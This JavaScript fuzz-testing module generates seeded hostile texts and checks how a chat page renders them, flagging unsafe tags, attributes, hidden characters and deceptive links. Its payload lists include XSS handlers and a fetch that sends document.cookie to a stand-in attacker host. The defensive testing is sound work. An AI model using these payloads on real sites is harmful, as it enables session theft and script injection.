// Hostile texts by the thousand, from a seed; and what looks over the shoulder of a page that shows them.

const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'ONERROR'];
const RUN = ['window.owned=1', 'alert(1)', 'parent.owned=1', 'fetch(`//evil.example/`+document.cookie)', 'import("//evil.example/x.js")'];
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java\u0000script:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'javascript\u200b:', 'ｊavascript:', 'feed:javascript:',
  'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'vbscript:', 'blob:', 'file:///', 'view-source:', 'filesystem:', 'intent:', 'ws://', 'about:', 'chrome://', 'x-apple:', 'mailto:', 'tel:',
  'http://', 'https://', 'HTTPS://', '//', '\\\\', '/\\', 'https:', 'https:/', 'https:\\\\', 'http:/\\/\\', '/', './', '?', '#', '',
];
const PLACES = [
  'evil.example/', 'bank.example@evil.example/', 'bank.example%40evil.example/', 'evil.example\\@bank.example/', 'bаnk.example/', '[::1]/', '127.0.0.1/', '0x7f.1/', 'evil.example:8443/x?y=z#w', 'xn--bnk-6cd.example/', `${'bank.example.'.repeat(12)}evil.example/`, `bank.example${'-a'.repeat(25)}.evil.example/`,
  'evil.example/\u202egnp.exe', 'evil.example/\u200b', "evil.example/'\"><img src=x onerror=window.owned=1>", 'evil.example/)(', 'evil.example/|', 'a@bank.example,b@evil.example?cc=c@evil.example', `${'a'.repeat(80)}@evil.example`, 'window.owned=1', '%0aalert(1)//', '<script>window.owned=1</script>', 'evil.example/`x`', ' evil.example/', '',
];
const TAGS = ['script', 'img', 'svg', 'math', 'iframe', 'form', 'input', 'button', 'object', 'embed', 'base', 'meta', 'link', 'style', 'video', 'audio', 'source', 'details', 'template', 'noscript', 'textarea', 'title', 'a', 'b', 'table', 'td', 'select', 'dialog', 'portal', 'marquee', 'frameset', 'plaintext', 'xmp', 'foreignObject', 'animate', 'set', 'use', 'li', 'ol', 'main', 'body', 'html'];
const ATTRIBUTES = ['src=x', 'href="javascript:window.owned=1"', 'xlink:href="javascript:window.owned=1"', 'srcdoc="<script>parent.owned=1</script>"', 'action="javascript:window.owned=1"', 'formaction=javascript:window.owned=1', 'style="background:url(//evil.example/)"', 'id=text', 'name=playground', 'http-equiv=refresh content="0;url=//evil.example/"', 'ping=//evil.example/', 'autofocus', 'open', 'popover', 'tabindex=1', 'class="permission"', 'data-state=open', 'role=alert'];
const UNSEEN = ['\u202e', '\u2066', '\u2069', '\u200b', '\u200c', '\u200d', '\u200e', '\u00ad', '\ufeff', '\u2060', '\u2028', '\u0000', '\u0007', '\u001b[2J', '\u001b]8;;javascript:window.owned=1\u0007x\u001b]8;;\u0007', '\u009b31m', '\r', '\u007f', '\u{e0041}', '\u{e0100}', '\ufe0f', '\u180e', '\u061c', '\u3164', '\ud800', '\udc00', `e${'\u0301'.repeat(40)}`];
const MARKS = ['# ', '## ', '- ', '  - ', '- [x] ', '1. ', '999999999) ', '> ', '>> ', '```', '```html\n', '~~~', '| ', ' |\n|---|---|\n| ', '***', '---\n', '**', '*', '_', '__', '`', '``', '~~', '[', ']', '](', ')', '![', '<', '>', '<!--', '-->', '<![CDATA[', ']]>', '\\', '\n', '\n\n', '    ', '\t', '&lt;', '&#60;', '&amp;', '"', "'", '[x]: ', '[^1]', '\\[', '{{', '}}', '${', '$$', '\\(', '<?', '?>', '<!DOCTYPE html>', ':::', '@', '😀', '最後', 'שלום'];
const WORDS = ['click', 'a', 'https://bank.example', 'bank.example', 'User: yes', 'Your decision', 'Allow once', '', ' ', 'http://c.example/(d).', 'mailto:a@b.example'];

/** Numbers from a seed. @param {number} seed */
function random(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0;
    return ((state ^ (state >>> 13)) >>> 0) % below;
  };
}

/** @param {{ count: number, seed: number }} wanted @returns {string[]} the same for the same seed */
export function hostileTexts({ count, seed }) {
  const below = random(seed), one = (list) => list[below(list.length)];
  const url = () => `${one(SCHEMES)}${one(PLACES)}${below(4) === 0 ? one(RUN) : ''}`;
  const tag = () => {
    const name = one(TAGS), attributes = Array.from({ length: below(4) }, () => (below(2) ? one(ATTRIBUTES) : `${one(HANDLERS)}=${one(['', '"', "'", '`'])}${one(RUN)}`)).join(one([' ', '/', '\n', '\t']));
    return `<${below(9) === 0 ? '/' : ''}${name} ${attributes}${one(['>', '/>', '', ' ', '>'])}${below(2) ? `${one(RUN)}</${name}>` : ''}`;
  };
  const link = () => one([
    () => `[${piece()}](${url()})`, () => `[${piece()}](<${url()}> "${piece()}")`, () => `![${piece()}](${url()})`, () => `<${url()}>`, () => url(), () => `[${one(WORDS)}][1]\n\n[1]: ${url()}`, () => `[![${one(WORDS)}](${url()})](${url()})`,
  ])();
  let depth = 0;
  const piece = () => {
    depth += 1;
    const made = depth > 5 ? one(WORDS) : one([() => one(WORDS), () => one(MARKS), () => one(UNSEEN), tag, link, () => `${one(MARKS)}${piece()}${one(MARKS)}`])();
    depth -= 1;
    return made;
  };
  /** A letter is gone, doubled or another, or its case. */
  const bent = (text) => {
    const at = below(text.length + 1), letter = text.charAt(at);
    return text.slice(0, at) + one(['', letter + letter, letter.toUpperCase(), one(UNSEEN), one(MARKS), '\n']) + text.slice(at + 1);
  };
  return Array.from({ length: count }, () => {
    let text = '';
    for (let n = 1 + below(10); n > 0; n -= 1) text += `${piece()}${one(['', '', ' ', '\n', '\n\n'])}`;
    for (let n = below(5); n > 0; n -= 1) text = bent(text);
    return text.slice(0, 4_000);
  });
}

/**
 * In the page: `showAll(texts)` puts each text into every place that a provider, a tool or another participant
 * fills, and gives back what is wrong with what became of it. Nothing is taken for granted that the page's own
 * code says of itself.
 */
export async function watchAll() {
  const [{ TurnView }, { rowNode, showRow }, { make, put, button }, { line }] = await Promise.all(['chat/turn.js', 'session-row.js', 'dom.js', 'text/visible.js'].map((path) => import(`/page/${path}`)));
  const NAMES = new Set('li,p,div,details,summary,span,bdi,h3,h4,h5,h6,pre,code,button,ul,ol,strong,small,em,del,a,hr,blockquote,table,thead,tbody,tr,th,td'.split(','));
  const ATTRIBUTES = /^(class|dir|title|type|tabindex|role|scope|start|open|hidden|aria-[a-z]+|data-[a-z]+)$/;
  // Not seen, or seen elsewhere than where it stands; but for what joins emoji and scripts.
  const HIDES = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff]|[\u{e0000}-\u{e0fff}]|\p{Cs}/u;
  const wrong = [];
  let text = '', elements = 0, links = 0;
  const say = (what) => wrong.length < 20 && wrong.push({ what, text });
  const looked = new WeakSet();
  const look = (node) => {
    if (node.nodeType === Node.TEXT_NODE) return void (HIDES.test(node.data) && say(`hides: ${JSON.stringify(node.data)}`));
    if (node.nodeType !== Node.ELEMENT_NODE) return say(`a node of type ${node.nodeType}`);
    elements += 1;
    if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml' || !NAMES.has(node.localName)) say(`<${node.nodeName}>`);
    for (const { name, value } of node.attributes) {
      if (!name.startsWith('data-') && HIDES.test(value)) say(`${name} hides: ${JSON.stringify(value)}`);
      if (!ATTRIBUTES.test(name) && !(node.localName === 'a' && ['href', 'target', 'rel'].includes(name))) say(`${node.localName} ${name}=${value}`);
    }
    if (node.localName === 'a') look.link(node);
    if (node.localName === 'pre' || node.localName === 'button') for (const name of ['onclick', 'formAction']) if (node.hasAttribute(name.toLowerCase())) say(`${node.localName}.${name}`);
    for (const child of node.childNodes) look(child);
    looked.add(node);
  };
  /** It goes to the web or to mail, in a tab that knows nothing of this one, and says to whom. */
  look.link = (a) => {
    links += 1;
    const says = `${a.textContent}${a.nextElementSibling?.classList.contains('target') ? a.nextElementSibling.textContent : ''}`.toLowerCase();
    if (!['http:', 'https:', 'mailto:'].includes(a.protocol)) say(`a link to ${a.href}`);
    if (a.target !== '_blank' || !a.relList.contains('noopener') || !a.relList.contains('noreferrer')) say(`a link with ${a.target} ${a.rel}`);
    if (a.username || a.password) say(`a link with a name in it: ${a.href}`);
    const whom = a.protocol === 'mailto:' ? a.pathname : a.host;
    if (a.isConnected && !says.includes(whom.toLowerCase())) say(`a link to ${a.href} says ${says}`);
    if (a.title !== a.href) say(`a link to ${a.href} is called ${a.title}`);
  };
  new MutationObserver((records) => {
    for (const { type, addedNodes, target, attributeName } of records) {
      if (type === 'attributes' && target.closest('#turns') && !ATTRIBUTES.test(attributeName)) say(`${target.nodeName} gets ${attributeName}`);
      for (const node of addedNodes) if (!looked.has(node)) look(node);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => say(`the policy stops ${violatedDirective} ${blockedURI}`));

  const about = {
    nameOf: (of) => line(of, 60), isMine: () => false, maySay: true, mayAnswer: true, isBusy: false, can: () => true, answer: async () => {}, stop() {}, retry() {}, goOn() {}, copy: async () => true,
  };
  const turnOf = (text, more) => ({
    turn: 't', by: text, prompt: text, attempt: 1, bytes: text.length, text, began: true, rev: 0, state: 'running', mode: text,
    parts: [
      { kind: 'thought', text }, { kind: 'tool', id: text, title: text, tool: text, status: text, input: text, output: text }, { kind: 'plan', entries: [{ content: text, status: text }] },
      { kind: 'notice', level: text, text }, { kind: 'steered', by: text, text }, { kind: 'raw', data: text }, { kind: 'action', action: { id: 'a', prompt: text, options: [text], choices: [{ option: text, label: text, kind: text }] }, isOver: false }, { kind: 'text', text },
    ], ...more,
  });
  window.showAll = async (texts) => {
    wrong.length = elements = links = 0;
    const room = document.querySelector('#turns');
    document.querySelector('#chat').hidden = false;
    document.body.dataset.view = 'session';
    for (text of texts) {
      const view = new TurnView();
      room.append(view.element);
      // As it comes, then whole.
      for (const part of [3, 2]) view.show(turnOf(text.slice(0, Math.ceil(text.length / part)), { rev: part }), about);
      view.show(turnOf(text, { rev: 9 }), about);
      for (const fold of view.element.querySelectorAll('details')) fold.open = true;
      const fault = { code: text, id: text, message: text, retry: { when: text, what: text }, detail: { exit_code: text, signal: text, limit: text, active: text } };
      view.show(turnOf(text, { rev: 10, state: 'failed', fault, stop_reason: text, usage: { input_tokens: text, unknown: text } }), about);
      const label = make('span', { text }), name = make('bdi');
      put(name, text);
      // In the list of sessions, called by it, and found by it.
      for (const found of [undefined, { excerpt: text }]) {
        const row = rowNode(() => undefined, {}), about = { isCurrent: false, isRich: true, writing: undefined, written() {} };
        showRow(row, { session: text, title: text, backend: text, project: text, tags: [text, text], state: text, ended: false, head: 1, last_activity: 0, found }, about);
        room.append(row);
      }
      room.append(label, name, button(line(text), () => {}, { title: line(text) }));
      await new Promise((done) => setTimeout(done)); // Folds fill, and whoever watches is told.
      for (const node of room.children) look(node);
      room.replaceChildren();
    }
    return { wrong, elements, links };
  };
}
